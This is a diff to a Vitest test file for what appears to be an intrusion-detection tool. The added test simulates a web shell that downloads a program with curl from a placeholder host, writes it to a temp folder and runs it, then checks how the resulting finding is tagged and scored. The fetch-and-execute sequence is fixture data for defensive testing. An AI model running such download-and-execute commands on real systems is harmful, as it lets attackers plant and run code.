@@ -1,4 +1,4 @@
-import { findingLine } from "@limpid/core";
+import { type Finding, findingLine } from "@limpid/core";
 import { describe, expect, it } from "vitest";
 import findingSchema from "../../../core/src/json/finding.schema.json" with { type: "json" };
 import { schemaErrors } from "../../../core/src/testing/json-schema.ts";
@@ -29,7 +29,8 @@ describe("makeFinding", () => {
   });
 
   it("holds exactly the keys of the contract", () => {
-    expect(Object.keys(finding)).toEqual(Object.keys(findingSchema.properties));
+    const { exercise: _, ...always } = findingSchema.properties;
+    expect(Object.keys(finding)).toEqual(Object.keys(always));
   });
 
   it("names the inferred writer, the shell that opened the file, and the ancestors", () => {
@@ -67,4 +68,33 @@ describe("makeFinding", () => {
     expect(id(other)).not.toBe(finding.id);
     expect(finding.id).toMatch(/^[0-9a-f]{24}$/);
   });
+});
+
+it("is tagged with the label of an exercise, and judged as if it had none", () => {
+  const drop = (folder: string): Finding => {
+    const story: Story = {
+      told: "a shell's curl fetches a program and runs it",
+      about: `${folder}/agent`,
+      tell: (scene) => {
+        const shell = webShell(scene);
+        shell.fork().exec("/usr/bin/curl", `curl -o ${folder}/agent http://h`).create(`${folder}/agent`).exit();
+        shell.fork().exec(`${folder}/agent`);
+      },
+    };
+    const judgement = judge(story);
+    if (judgement === undefined) throw new Error("no finding");
+    return makeFinding(judgement, "0.1.0", "sha256:00");
+  };
+  const [plain, known, borrowed] = [
+    drop("/var/tmp/work"),
+    drop("/var/tmp/limpid-exercise-00000000000000ff"),
+    drop("/var/tmp/limpid-exercise-0123456789abcdef"),
+  ];
+  expect([plain.exercise, known.exercise, borrowed.exercise]).toEqual([
+    undefined,
+    "00000000000000ff",
+    "0123456789abcdef",
+  ]);
+  expect([known.score, known.priority]).toEqual([plain.score, plain.priority]);
+  expect(borrowed.score).toBeGreaterThan(plain.score);
 });
